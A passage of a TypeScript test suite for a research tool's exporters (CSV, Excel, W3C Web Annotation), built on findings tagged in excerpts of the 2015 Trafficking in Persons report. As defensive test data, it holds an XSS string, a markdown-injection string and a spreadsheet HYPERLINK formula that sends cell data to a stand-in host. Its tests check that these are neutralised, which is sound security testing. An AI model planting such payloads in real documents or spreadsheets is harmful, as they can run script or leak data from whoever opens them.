import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import Ajv from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { validateXML } from 'xmllint-wasm';
import { loadNodePdfjs } from '../../src/node/pdfjs-node';
import { codePointOffsets } from '../../src/shared/export/code-points';
import { csvField, findingsToCsv } from '../../src/shared/export/csv';
import { findingRows, formatCitation, type ExportInput, type FindingRow } from '../../src/shared/export/finding-rows';
import { codeGuid, findingsToQdpx } from '../../src/shared/export/qdpx';
import { escapeMarkdown, findingsToHtml, findingsToMarkdown, REPORT_CSP } from '../../src/shared/export/report';
import { tagTree } from '../../src/shared/export/tag-tree';
import { exportFindings } from '../../src/shared/export/export-findings';
import { annotationId, findingsToWebAnnotation, sha256Urn, type Annotation, type AnnotationCollection, type LinkingBody } from '../../src/shared/export/web-annotation';
import { FINDINGS_SHEET, findingsToXlsx, TAG_COUNTRY_SHEET } from '../../src/shared/export/xlsx';
import { ingestFile } from '../../src/shared/ingest/ingest';
import type { IngestedDocument } from '../../src/shared/ingest/types';
import { pageAtOffset, quoteAt } from '../../src/shared/model/document-text';
import type { DocumentRecord, DocumentText, Finding, Tag } from '../../src/shared/model/types';
import { WorkbenchDb } from '../../src/shared/store/workbench-db';
import { WorkbenchStore } from '../../src/shared/store/workbench-store';
import { fixture, fixtureBytes } from '../fixtures';

// ---------------------------------------------------------------------------------------------
// Data: the TIP 2015 excerpt (text and PDF) ingested for real, with findings on known passages.
// Ids and dates are fixed so the expected files stay byte-stable.

const EXPECTED = resolve(import.meta.dirname, 'expected/export');
// UPDATE_EXPECTED=1 rewrites the expected files after a deliberate format change; read the diff.
const UPDATE = process.env.UPDATE_EXPECTED === '1';

function expectSameAsFile(actual: string, name: string) {
  const path = join(EXPECTED, name);
  if (UPDATE) writeFileSync(path, actual);
  expect(existsSync(path), `${path} is missing (UPDATE_EXPECTED=1 writes it)`).toBe(true);
  expect(actual).toBe(readFileSync(path, 'utf8'));
}

const TAGS: Tag[] = [
  { id: 'tag-prosecution', name: 'Prosecution', color: '#e8590c', description: 'Investigations, prosecutions, convictions, sentences', order: 1, parentId: null },
  { id: 'tag-protection', name: 'Protection', color: '#2f9e44', description: 'Identifying victims and giving them care', order: 2, parentId: null },
  { id: 'tag-victim-identification', name: 'Victim identification', color: '#087f5b', description: 'Victims identified', order: 3, parentId: 'tag-protection' },
  { id: 'tag-protection-foreign-victims', name: 'Foreign victims', color: '#0f766e', description: '', order: 4, parentId: 'tag-protection' },
  { id: 'tag-prevention', name: 'Prevention', color: '#1971c2', description: 'Efforts to stop trafficking before it happens', order: 5, parentId: null },
  { id: 'tag-prevention-awareness', name: 'Awareness', color: '#0369a1', description: 'Campaigns, training & hotlines', order: 6, parentId: 'tag-prevention' },
  { id: 'tag-recommendation', name: 'Recommendations', color: '#a16207', description: 'What the report asks the government to do', order: 7, parentId: null },
  // Stored before the codebook had a hierarchy: no parentId at all.
  { id: 'tag-tier', name: 'Tier and compliance', color: '#c92a2a', description: 'Tier placement and compliance statements', order: 8 },
];

const DOC_TXT = '3f0c6a52-8f7e-4d3a-9b1c-2a4e5f6a7b01';
const DOC_PDF = '3f0c6a52-8f7e-4d3a-9b1c-2a4e5f6a7b02';
const fid = (n: number) => `a1b2c3d4-0000-4000-8000-0000000000${String(n).padStart(2, '0')}`;

const HTML_ATTACK = '<img src=x onerror=alert(1)> <script>alert(2)</script>';
const FORMULA = '=HYPERLINK("http://example.com/?d="&A1,"Click")';
const MARKDOWN_ATTACK = '# Not a heading\n- not a list\n1. not a list either, *nor* _emphasis_, `code` or [a link](http://example.com) | pipe';

let pdfjs: Awaited<ReturnType<typeof loadNodePdfjs>>;

async function ingest(fileName: string, bytes: Uint8Array): Promise<IngestedDocument> {
  return ingestFile({ fileName, bytes, pdfjs });
}

function record(doc: IngestedDocument, id: string, title: string, addedAt: string): DocumentRecord {
  return {
    id,
    title,
    fileName: doc.fileName,
    kind: doc.kind,
    sha256: doc.sha256,
    byteLength: doc.byteLength,
    pageCount: doc.pageStarts.length,
    characters: doc.characters,
    warnings: doc.warnings,
    year: doc.structure.year,
    yearSource: doc.structure.yearSource,
    countries: doc.structure.countries.map((c) => ({ name: c.name, tier: c.tier })),
    addedAt,
  };
}

function text(doc: IngestedDocument, documentId: string): DocumentText {
  return { documentId, text: doc.text, pageStarts: doc.pageStarts, spans: doc.spans, structure: doc.structure };
}

interface Spec {
  id: string;
  passage: string;
  tagIds: string[];
  note?: string;
  createdAt: string;
  updatedAt?: string;
  anchor?: Finding['anchor'];
}

/** A finding as WorkbenchStore.createFinding makes it (quoteAt, pageAtOffset), with fixed id and dates. */
function finding(doc: IngestedDocument, documentId: string, spec: Spec): Finding {
  const start = doc.text.indexOf(spec.passage);
  expect(start, spec.passage).toBeGreaterThanOrEqual(0);
  expect(doc.text.indexOf(spec.passage, start + 1), `${spec.passage} is ambiguous`).toBe(-1);
  const end = start + spec.passage.length;
  return {
    id: spec.id,
    documentId,
    quote: quoteAt(doc.text, start, end),
    position: { start, end },
    page: pageAtOffset(doc.pageStarts, start),
    tagIds: spec.tagIds,
    note: spec.note ?? '',
    createdAt: spec.createdAt,
    updatedAt: spec.updatedAt ?? spec.createdAt,
    ...(spec.anchor ? { anchor: spec.anchor } : {}),
  };
}

let txt: IngestedDocument;
let pdf: IngestedDocument;
let input: ExportInput;
let rows: FindingRow[];

beforeAll(async () => {
  pdfjs = await loadNodePdfjs();
  txt = await ingest('tip-2015-excerpt.txt', fixtureBytes('tip/tip-2015-excerpt.txt'));
  pdf = await ingest('tip-2015-excerpt.pdf', fixtureBytes('tip/tip-2015-excerpt.pdf'));
  const findings: Finding[] = [
    // Listed out of order on purpose: the export sorts by document, then position.
    finding(pdf, DOC_PDF, {
      id: fid(6),
      passage:
        'The prescribed penalties for trafficking offenses range from three to 10 years’ imprisonment for adult trafficking and 10 to 20 years’ imprisonment for child trafficking.',
      tagIds: ['tag-prosecution'],
      note: 'Sentencing range: 3–10 years (adults), 10–20 (children).',
      createdAt: '2025-03-02T10:00:00.000Z',
      updatedAt: '2025-03-04T08:30:00.000Z',
      anchor: { status: 'moved', similarity: 1, checkedAt: '2025-03-04T08:30:00.000Z' },
    }),
    finding(txt, DOC_TXT, {
      id: fid(1),
      passage: 'Lithuanian courts officially identified 30 trafficking victims, compared with 15 in 2013.',
      tagIds: ['tag-victim-identification'],
      note: 'Up from 15; "officially" means court-confirmed, not police figures.',
      createdAt: '2025-03-01T09:00:00.000Z',
      updatedAt: '2025-03-01T09:05:00.000Z',
    }),
    finding(txt, DOC_TXT, {
      id: fid(2),
      // Across a paragraph break: the quote holds a line break.
      passage:
        'as authorities placed child victims in foster homes and mixed-use shelters.\nThe government offered foreign victims of trafficking a 30-day reflection period to decide whether to cooperate with law enforcement.',
      tagIds: ['tag-protection-foreign-victims'],
      createdAt: '2025-03-01T09:10:00.000Z',
    }),
    finding(txt, DOC_TXT, {
      id: fid(4),
      passage:
        'The police advertised and managed an e-mail account that the public could use to report potential human trafficking situations and ask for advice;',
      tagIds: ['tag-prevention-awareness'],
      note: MARKDOWN_ATTACK,
      createdAt: '2025-03-01T09:20:00.000Z',
      anchor: { status: 'orphaned', similarity: 0.41, checkedAt: '2025-03-03T12:00:00.000Z' },
    }),
    finding(txt, DOC_TXT, {
      id: fid(3),
      passage: 'establish a hotline with operators trained to assist victims',
      tagIds: ['tag-prevention-awareness', 'tag-recommendation'],
      note: FORMULA,
      createdAt: '2025-03-01T09:30:00.000Z',
    }),
    finding(pdf, DOC_PDF, {
      id: fid(5),
      passage: 'The Government of Luxembourg fully complies with the minimum standards for the elimination of trafficking.',
      tagIds: ['tag-tier'],
      note: HTML_ATTACK,
      createdAt: '2025-03-02T09:00:00.000Z',
    }),
    finding(pdf, DOC_PDF, {
      id: fid(7),
      passage: 'Lithuanian courts officially identified 30 trafficking victims, compared with 15 in 2013.',
      tagIds: ['tag-deleted-since', 'tag-victim-identification'],
      note: 'Same figure as the text version.\nCheck against the 2016 report.',
      createdAt: '2025-03-02T09:30:00.000Z',
    }),
    finding(pdf, DOC_PDF, {
      id: fid(8),
      passage: 'Several police officers have been accused of pimping crimes in recent years.',
      tagIds: ['tag-deleted-since'],
      createdAt: '2025-03-02T09:45:00.000Z',
    }),
  ];
  input = {
    documents: [
      record(txt, DOC_TXT, 'Trafficking in Persons Report 2015 (excerpt)', '2025-02-28T16:00:00.000Z'),
      record(pdf, DOC_PDF, 'Trafficking in Persons Report 2015 (PDF excerpt)', '2025-02-28T16:05:00.000Z'),
    ],
    texts: new Map([
      [DOC_TXT, text(txt, DOC_TXT)],
      [DOC_PDF, text(pdf, DOC_PDF)],
    ]),
    findings,
    tags: TAGS,
  };
  rows = findingRows(input);
});

// ---------------------------------------------------------------------------------------------

describe('finding rows', () => {
  it('lists one row per finding, by document then position, with country, section, page and tags', () => {
    expect(rows.map((r) => r.id)).toEqual([1, 2, 4, 3, 7, 8, 5, 6].map(fid));
    const byId = new Map(rows.map((r) => [r.id, r]));
    expect(byId.get(fid(1))).toMatchObject({
      documentTitle: 'Trafficking in Persons Report 2015 (excerpt)',
      fileName: 'tip-2015-excerpt.txt',
      year: 2015,
      country: 'Lithuania',
      section: 'protection',
      page: 1,
      quote: 'Lithuanian courts officially identified 30 trafficking victims, compared with 15 in 2013.',
      tags: 'Protection › Victim identification',
      anchor: 'exact',
      created: '2025-03-01T09:00:00.000Z',
      updated: '2025-03-01T09:05:00.000Z',
      // A text file has no real pages: no "p. 1".
      citation: 'U.S. Department of State, Trafficking in Persons Report 2015 (excerpt), 2015, Lithuania, Protection',
    });
    expect(byId.get(fid(3))).toMatchObject({ country: 'Luxembourg', section: 'recommendations', tags: 'Prevention › Awareness; Recommendations' });
    expect(byId.get(fid(5))).toMatchObject({
      country: 'Luxembourg',
      section: 'compliance',
      page: 2,
      tags: 'Tier and compliance',
      citation: 'U.S. Department of State, Trafficking in Persons Report 2015 (PDF excerpt), 2015, Luxembourg, Compliance, p. 2',
    });
    expect(byId.get(fid(6))).toMatchObject({ country: 'Luxembourg', section: 'prosecution', page: 3, anchor: 'moved' });
    expect(byId.get(fid(8))).toMatchObject({ country: 'Luxembourg', section: 'profile', tags: '', tagIds: [] });
    // The deleted tag is dropped, the known one kept.
    expect(byId.get(fid(7))).toMatchObject({ tagIds: ['tag-victim-identification'], page: 1 });
  });

  it('gives an orphaned finding no location: its position points at unrelated text', () => {
    const orphan = rows.find((r) => r.id === fid(4))!;
    expect(orphan).toMatchObject({ anchor: 'orphaned', country: '', section: '', page: null });
    expect(orphan.citation).toBe('U.S. Department of State, Trafficking in Persons Report 2015 (excerpt), 2015');
  });

  it('leaves out findings of documents not exported, and accepts texts as a plain record', () => {
    const only = findingRows({ ...input, documents: [input.documents[1]!], texts: { [DOC_PDF]: text(pdf, DOC_PDF) } });
    expect(only.map((r) => r.documentId)).toEqual(Array(4).fill(DOC_PDF));
    expect(only.find((r) => r.id === fid(5))!.country).toBe('Luxembourg');
  });

  it('formats citations in one order, leaving out missing parts', () => {
    const base = { publisher: 'U.S. Department of State', title: 'TIP Report', year: 2015, country: 'Chad', section: 'trafficking-profile' as const, page: 12 };
    expect(formatCitation(base)).toBe('U.S. Department of State, TIP Report, 2015, Chad, Trafficking profile, p. 12');
    expect(formatCitation({ ...base, year: null, country: '', section: '', page: null })).toBe('U.S. Department of State, TIP Report');
    expect(formatCitation({ ...base, title: 'TIP\n  Report ' })).toBe('U.S. Department of State, TIP Report, 2015, Chad, Trafficking profile, p. 12');
    expect(findingRows(input, { publisher: 'Council of Europe' })[0]!.citation).toMatch(/^Council of Europe, /);
  });

  it('orders the codebook as a tree and survives dangling parents and cycles', () => {
    const tree = tagTree([
      ...TAGS,
      { id: 'a', name: 'A', color: '', description: '', order: 9, parentId: 'b' },
      { id: 'b', name: 'B', color: '', description: '', order: 10, parentId: 'a' },
      { id: 'orphan', name: 'Orphan', color: '', description: '', order: 0, parentId: 'gone' },
    ]);
    expect(tree.map((n) => n.path)).toEqual([
      'Orphan',
      'Prosecution',
      'Protection',
      'Protection › Victim identification',
      'Protection › Foreign victims',
      'Prevention',
      'Prevention › Awareness',
      'Recommendations',
      'Tier and compliance',
      'A',
      'A › B',
    ]);
    expect([...tree.find((n) => n.tag.id === 'tag-protection')!.subtree]).toEqual([
      'tag-protection',
      'tag-victim-identification',
      'tag-protection-foreign-victims',
    ]);
  });
});

// ---------------------------------------------------------------------------------------------

describe('CSV', () => {
  it('matches the expected file', () => {
    expectSameAsFile(findingsToCsv(rows), 'findings.csv');
  });

  it('starts with a BOM, ends every record with CRLF and quotes per RFC 4180', () => {
    const csv = findingsToCsv(rows);
    expect(csv.startsWith('\uFEFFDocument,File,Year,Country,Section,Page,Quote,Tags,Note,Citation,Anchor,Created,Updated,Finding ID,Predecessor ID\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parseCsv(csv.slice(1));
    expect(records).toHaveLength(rows.length + 1);
    for (const r of records) expect(r).toHaveLength(15);
    expect(records[1]![8]).toBe('Up from 15; "officially" means court-confirmed, not police figures.');
    // The quote's own line break stays inside its quoted field.
    expect(rows[1]!.quote).toContain('shelters.\nThe government');
    expect(records[2]![6]).toBe(rows[1]!.quote);
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) expect(csvField(`${lead}1+1`).replace(/^"/, '')).toMatch(/^'/);
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('-2')).toBe("'-2");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(2015)).toBe('2015');
    expect(csvField(null)).toBe('');
    const note = parseCsv(findingsToCsv(rows).slice(1)).find((r) => r[13] === fid(3))![8];
    expect(note).toBe(`'${FORMULA}`);
  });

  it('keeps markup as literal text', () => {
    const note = parseCsv(findingsToCsv(rows).slice(1)).find((r) => r[13] === fid(5))![8];
    expect(note).toBe(HTML_ATTACK);
  });
});

/** A strict RFC 4180 reader, to check the writer from the other side. */
function parseCsv(csv: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  while (i < csv.length) {
    if (csv[i] === '"') {
      i++;
      for (;;) {
        if (i >= csv.length) throw new Error('unterminated quoted field');
        if (csv[i] === '"' && csv[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (csv[i] === '"') {
          i++;
          break;
        } else field += csv[i++];
      }
    } else if (csv[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (csv.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (csv[i] === '\n' || csv[i] === '\r' || csv[i] === '"') {
      throw new Error(`bare line break or quote at ${i}`);
    } else field += csv[i++];
  }
  if (field !== '' || record.length > 0) throw new Error('last record has no CRLF');
  return records;
}

// ---------------------------------------------------------------------------------------------

interface XlsxSheet {
  cells: Map<string, string | number>;
  /** Cell reference → style index. */
  styles: Map<string, number>;
  widths: number[];
  xml: string;
}

function readXlsx(bytes: Uint8Array): { sheets: Map<string, XlsxSheet>; boldStyles: Set<number> } {
  const files = unzipSync(bytes);
  const read = (p: string) => strFromU8(files[p]!);
  const parser = new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: '',
    parseTagValue: false,
    trimValues: false,
    isArray: (name, _path, _leaf, isAttribute) => !isAttribute && ['sheet', 'Relationship', 'si', 'r', 'row', 'c', 'col', 'xf', 'font'].includes(name),
  });
  const textOf = (t: unknown): string => (typeof t === 'string' ? t : t && typeof t === 'object' ? String((t as Record<string, unknown>)['#text'] ?? '') : '');
  const siText = (si: Record<string, unknown>) =>
    si.t !== undefined ? textOf(si.t) : ((si.r as Record<string, unknown>[] | undefined) ?? []).map((r) => textOf(r.t)).join('');
  const shared: string[] = files['xl/sharedStrings.xml'] ? (parser.parse(read('xl/sharedStrings.xml')).sst.si ?? []).map(siText) : [];

  const styles = parser.parse(read('xl/styles.xml')).styleSheet;
  const fonts: Record<string, unknown>[] = styles.fonts.font;
  const xfs: Record<string, string>[] = styles.cellXfs.xf;
  const boldStyles = new Set(xfs.map((xf, i) => (fonts[Number(xf.fontId ?? 0)]?.b !== undefined ? i : -1)).filter((i) => i >= 0));

  const workbook = parser.parse(read('xl/workbook.xml')).workbook;
  const rels: Record<string, string>[] = parser.parse(read('xl/_rels/workbook.xml.rels')).Relationships.Relationship;
  const sheets = new Map<string, XlsxSheet>();
  for (const s of workbook.sheets.sheet as Record<string, string>[]) {
    const target = rels.find((r) => r.Id === s['r:id'])!.Target!.replace(/^\/?(xl\/)?/, '');
    const xml = read(`xl/${target}`);
    const ws = parser.parse(xml).worksheet;
    const cells = new Map<string, string | number>();
    const cellStyles = new Map<string, number>();
    for (const row of ws.sheetData.row ?? []) {
      for (const c of row.c ?? []) {
        const v = c.v === undefined ? undefined : textOf(c.v);
        const value = c.t === 's' ? shared[Number(v)]! : c.t === 'inlineStr' ? siText(c.is) : c.t === 'str' ? v! : Number(v);
        cells.set(c.r, value);
        if (c.s !== undefined) cellStyles.set(c.r, Number(c.s));
      }
    }
    const widths = ((ws.cols?.col ?? []) as Record<string, string>[]).map((col) => Number(col.width));
    sheets.set(s.name!, { cells, styles: cellStyles, widths, xml });
  }
  return { sheets, boldStyles };
}

describe('Excel workbook', () => {
  it('holds a Findings sheet with a bold header, widths and every row', async () => {
    const { sheets, boldStyles } = readXlsx(await findingsToXlsx(rows, TAGS));
    expect([...sheets.keys()]).toEqual([FINDINGS_SHEET, TAG_COUNTRY_SHEET]);
    const sheet = sheets.get(FINDINGS_SHEET)!;
    const header = 'ABCDEFGHIJKLMNO'.split('').map((col) => sheet.cells.get(`${col}1`));
    expect(header).toEqual(['Document', 'File', 'Year', 'Country', 'Section', 'Page', 'Quote', 'Tags', 'Note', 'Citation', 'Anchor', 'Created', 'Updated', 'Finding ID', 'Predecessor ID']);
    for (const col of 'ABCDEFGHIJKLMNO') expect(boldStyles.has(sheet.styles.get(`${col}1`)!), `${col}1 bold`).toBe(true);
    expect(boldStyles.has(sheet.styles.get('A2') ?? 0)).toBe(false);
    expect(sheet.widths).toEqual([30, 24, 6, 16, 14, 6, 80, 30, 40, 50, 9, 22, 22, 38, 38]);
    // Row 2 is the first finding; numbers are numbers, text is text (never a formula).
    expect(sheet.cells.get('A2')).toBe('Trafficking in Persons Report 2015 (excerpt)');
    expect(sheet.cells.get('C2')).toBe(2015);
    expect(sheet.cells.get('G2')).toBe(rows[0]!.quote);
    expect(sheet.cells.get('N2')).toBe(fid(1));
    const formulaRow = rows.findIndex((r) => r.id === fid(3)) + 2;
    expect(sheet.cells.get(`I${formulaRow}`)).toBe(FORMULA);
    expect(sheet.xml).not.toContain('<f>');
    // The orphaned finding has no page: an empty cell, not 0.
    const orphanRow = rows.findIndex((r) => r.id === fid(4)) + 2;
    expect(sheet.cells.has(`F${orphanRow}`)).toBe(false);
    expect(sheet.cells.get(`K${orphanRow}`)).toBe('orphaned');
    expect(sheet.cells.get(`A${rows.length + 2}`)).toBeUndefined();
  });

  it('counts findings per tag and country, parents including their children', async () => {
    const { sheets } = readXlsx(await findingsToXlsx(rows, TAGS));
    const sheet = sheets.get(TAG_COUNTRY_SHEET)!;
    const grid: (string | number | undefined)[][] = [];
    for (let r = 1; r <= 10; r++) grid.push('ABCDE'.split('').map((c) => sheet.cells.get(`${c}${r}`)));
    expect(grid).toEqual([
      ['Tag', 'Lithuania', 'Luxembourg', '(no country)', 'Total'],
      ['Prosecution', 0, 1, 0, 1],
      ['Protection', 3, 0, 0, 3],
      ['Protection › Victim identification', 2, 0, 0, 2],
      ['Protection › Foreign victims', 1, 0, 0, 1],
      ['Prevention', 0, 1, 1, 2],
      ['Prevention › Awareness', 0, 1, 1, 2],
      ['Recommendations', 0, 1, 0, 1],
      ['Tier and compliance', 0, 1, 0, 1],
      // Each finding once, tagged or not.
      ['All findings', 3, 4, 1, 8],
    ]);
    expect(sheet.cells.has('A11')).toBe(false);
  });

  it('writes an empty export as headers only', async () => {
    const { sheets } = readXlsx(await findingsToXlsx([], []));
    expect(sheets.get(FINDINGS_SHEET)!.cells.get('A1')).toBe('Document');
    expect(sheets.get(FINDINGS_SHEET)!.cells.has('A2')).toBe(false);
    expect(sheets.get(TAG_COUNTRY_SHEET)!.cells.get('A2')).toBe('All findings');
  });
});

// ---------------------------------------------------------------------------------------------
// W3C Web Annotation: the test suite's own assertions, evaluated as its harness does
// (see shared/fixtures/schemas/README.md).

const SUITE = fixture('schemas/w3c-annotation/suite');

type Assertion = Record<string, unknown> & { id?: string; expectedResult?: 'valid' | 'invalid'; onUnexpectedResult?: string; assertionFile?: string };
type Entry = string | Assertion | Entry[] | { assertions: Entry[]; compareWith?: 'and' | 'or' };

interface SuiteResult {
  passed: string[];
  failed: string[];
}

function suiteAjv() {
  const ajv = new Ajv({ allErrors: true, strict: false });
  addFormats(ajv);
  for (const f of readdirSync(join(SUITE, 'definitions'))) ajv.addSchema(JSON.parse(readFileSync(join(SUITE, 'definitions', f), 'utf8')));
  return ajv;
}

let ajv: ReturnType<typeof suiteAjv>;

function loadEntry(path: string, dir: string): Assertion {
  return JSON.parse(readFileSync(path.includes('/') ? join(SUITE, path) : join(dir, path), 'utf8'));
}

/** Runs a `.test` file's assertions on a document, following the harness's skip/abort rules. */
function runTest(testPath: string, doc: unknown): SuiteResult {
  const test = JSON.parse(readFileSync(join(SUITE, testPath), 'utf8')) as { assertions: Entry[] };
  const dir = dirname(join(SUITE, testPath));
  const result: SuiteResult = { passed: [], failed: [] };
  let aborted = false;

  const check = (raw: Assertion): { ok: boolean; name: string; then: string } => {
    const a: Assertion = raw.assertionFile ? { ...loadEntry(raw.assertionFile, dir), ...raw } : raw;
    const name = a.id ?? String(a.title ?? 'inline assertion');
    const validate = (!raw.assertionFile && a.id ? ajv.getSchema(a.id) : undefined) ?? ajv.compile(raw.assertionFile ? { ...a, id: undefined } : a);
    const ok = ((a.expectedResult ?? 'valid') === 'valid') === validate(doc);
    return { ok, name, then: a.onUnexpectedResult ?? 'failAndContinue' };
  };
  // Returns whether the list's assertions all met their expectations.
  const runList = (entries: Entry[], record: boolean): boolean => {
    let all = true;
    for (const entry of entries) {
      if (aborted) return false;
      if (Array.isArray(entry)) {
        all = runList(entry, record) && all;
        continue;
      }
      if (typeof entry === 'object' && 'assertions' in entry && Array.isArray(entry.assertions)) {
        const outcomes = (entry.assertions as Entry[]).map((e) => runList([e], false));
        const ok = entry.compareWith === 'or' ? outcomes.some(Boolean) : outcomes.every(Boolean);
        if (record) (ok ? result.passed : result.failed).push('condition');
        all = ok && all;
        continue;
      }
      const { ok, name, then } = check(typeof entry === 'string' ? loadEntry(entry, dir) : (entry as Assertion));
      if (record) (ok ? result.passed : result.failed).push(name);
      all = ok && all;
      if (!ok && /AndAbort$/.test(then)) aborted = true;
      if (!ok && /AndSkip$/.test(then)) break;
    }
    return all;
  };
  runList(test.assertions, true);
  return result;
}

/** Keys and type/motivation/purpose values of a document that the anno.jsonld context does not define. */
function termsOutsideContext(doc: unknown): string[] {
  const context = JSON.parse(readFileSync(fixture('schemas/w3c-annotation/anno.jsonld'), 'utf8'))['@context'] as Record<string, unknown>;
  const unknown = new Set<string>();
  const walk = (v: unknown) => {
    if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object') {
      for (const [k, child] of Object.entries(v)) {
        if (k !== '@context' && !(k in context)) unknown.add(k);
        if (k === 'type' || k === 'motivation' || k === 'purpose') {
          for (const t of [child].flat()) if (!((t as string) in context)) unknown.add(`${k}: ${t}`);
        } else walk(child);
      }
    }
  };
  walk(doc);
  return [...unknown];
}

describe('W3C Web Annotation', () => {
  let collection: ReturnType<typeof findingsToWebAnnotation>;
  let items: Annotation[];

  beforeAll(() => {
    ajv = suiteAjv();
    collection = findingsToWebAnnotation(input, { documentUri: sha256Urn });
    items = collection.first!.items;
  });

  it('passes all 54 MUST assertions of annotationMusts.test for every annotation', () => {
    expect(items).toHaveLength(8);
    for (const annotation of items) {
      const { passed, failed } = runTest('annotations/annotationMusts.test', JSON.parse(JSON.stringify(annotation)));
      expect(failed, annotation.id).toEqual([]);
      expect(passed).toHaveLength(54);
    }
  });

  it('passes the collection and page MUST assertions', () => {
    const doc = JSON.parse(JSON.stringify(collection));
    const c = runTest('collections/collectionMusts.test', doc);
    expect(c.failed).toEqual([]);
    expect(c.passed).toHaveLength(10);
    // The page test takes "an Annotation Collection with an embedded Page".
    const p = runTest('collections/pages/pageMusts.test', doc);
    expect(p.failed).toEqual([]);
    expect(p.passed).toHaveLength(15);
  });

  it('fails the suite when an annotation is broken (the evaluator really evaluates)', () => {
    const broken = JSON.parse(JSON.stringify(items[0])) as Record<string, unknown>;
    broken.bodyValue = 'both body and bodyValue';
    (broken.target as { selector: Record<string, unknown>[] }).selector = [
      { type: 'TextQuoteSelector', prefix: 'no exact' },
      { type: 'TextPositionSelector', start: -1, end: 'x' },
    ];
    const { failed } = runTest('annotations/annotationMusts.test', broken);
    expect(failed).toEqual(
      expect.arrayContaining(['3.2.5-notBodyBodyValue.json', '4.2.4-textQuoteSelectorValid.json', '4.2-textDataPositionSelectorValid.json']),
    );
    const noContext = { ...JSON.parse(JSON.stringify(collection)), '@context': 'http://example.com/other' };
    expect(runTest('collections/collectionMusts.test', noContext).failed).toContain('5.1-collectionContextValidated.json');
  });

  it('maps a finding to tagging and commenting bodies and quote and position selectors', () => {
    const a = items.find((x) => x.id === `urn:uuid:${fid(3)}`)!;
    expect(a).toMatchObject({
      '@context': 'http://www.w3.org/ns/anno.jsonld',
      type: 'Annotation',
      motivation: 'tagging',
      created: '2025-03-01T09:30:00.000Z',
      modified: '2025-03-01T09:30:00.000Z',
      generator: { type: 'Software', name: 'Report Workbench' },
      body: [
        { type: 'TextualBody', purpose: 'tagging', value: 'Prevention › Awareness', format: 'text/plain' },
        { type: 'TextualBody', purpose: 'tagging', value: 'Recommendations', format: 'text/plain' },
        { type: 'TextualBody', purpose: 'commenting', value: FORMULA, format: 'text/plain' },
      ],
    });
    expect(a.target.source).toBe(`urn:sha256:${txt.sha256}`);
    const [quote, position] = a.target.selector;
    expect(quote).toEqual({ type: 'TextQuoteSelector', ...input.findings.find((f) => f.id === fid(3))!.quote });
    expect(position!.type).toBe('TextPositionSelector');
    const { start, end } = position as { start: number; end: number };
    expect(txt.text.slice(start, end)).toBe('establish a hotline with operators trained to assist victims');
  });

  it('keeps only the quote selector of an orphaned finding, and highlights a passage with nothing left', () => {
    const orphan = items.find((x) => x.id === `urn:uuid:${fid(4)}`)!;
    expect(orphan.target.selector.map((s) => s.type)).toEqual(['TextQuoteSelector']);
    const bare = items.find((x) => x.id === `urn:uuid:${fid(8)}`)!;
    expect(bare.motivation).toBe('highlighting');
    expect(bare.body).toBeUndefined();
    expect(items.find((x) => x.id === `urn:uuid:${fid(2)}`)!.body).toHaveLength(1);
  });

  it('uses only terms of the Web Annotation JSON-LD context', () => {
    expect(termsOutsideContext(collection)).toEqual([]);
  });

  it('is stable across runs and takes id, label, generator and time from the caller', () => {
    expect(findingsToWebAnnotation(input, { documentUri: sha256Urn }).id).toBe(collection.id);
    expect(collection.id).toMatch(/^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    const custom = findingsToWebAnnotation(input, {
      documentUri: (d) => `https://example.org/reports/${d.id}`,
      id: 'https://example.org/collections/1',
      label: 'TIP 2015 review',
      generator: { id: 'https://example.org/rwb', type: 'Software', name: 'RWB test' },
      generated: '2025-03-05T00:00:00Z',
    });
    expect(custom).toMatchObject({ id: 'https://example.org/collections/1', label: 'TIP 2015 review', generated: '2025-03-05T00:00:00Z', total: 8 });
    expect(custom.first!.items[0]!.target.source).toBe(`https://example.org/reports/${DOC_TXT}`);
    expect(runTest('annotations/annotationMusts.test', JSON.parse(JSON.stringify(custom.first!.items[0]))).failed).toEqual([]);
  });

  it('writes an empty collection without a page', () => {
    const empty = findingsToWebAnnotation({ ...input, findings: [] }, { documentUri: sha256Urn });
    expect(empty.total).toBe(0);
    expect(empty.first).toBeUndefined();
    expect(runTest('collections/collectionMusts.test', JSON.parse(JSON.stringify(empty))).failed).toEqual([]);
  });
});

describe('W3C Web Annotation: a finding carried forward links to its predecessor', () => {
  // The 2016 edition: the real 2015 excerpt with one sentence reworded, as the next year's report does.
  const KEPT = 'finalize the national referral mechanism to guide front-line responders';
  const REWORDED_2015 = 'The government demonstrated progress in holding traffickers accountable with prison time.';
  const REWORDED_2016 = 'The government demonstrated some progress in holding traffickers accountable with prison sentences.';

  let store: WorkbenchStore;
  let d2015: DocumentRecord;
  let d2016: DocumentRecord;
  let earlier: Finding;
  let carried: Finding;
  let fresh: Finding;

  const linking = (a: Annotation) => (a.body ?? []).filter((b): b is LinkingBody => b.purpose === 'linking');
  const allMustsPass = (c: AnnotationCollection) => {
    const doc = JSON.parse(JSON.stringify(c)) as AnnotationCollection;
    for (const annotation of doc.first!.items) {
      const { passed, failed } = runTest('annotations/annotationMusts.test', annotation);
      expect(failed, annotation.id).toEqual([]);
      expect(passed).toHaveLength(54);
    }
    expect(runTest('collections/collectionMusts.test', doc).failed).toEqual([]);
    expect(runTest('collections/pages/pageMusts.test', doc).failed).toEqual([]);
  };
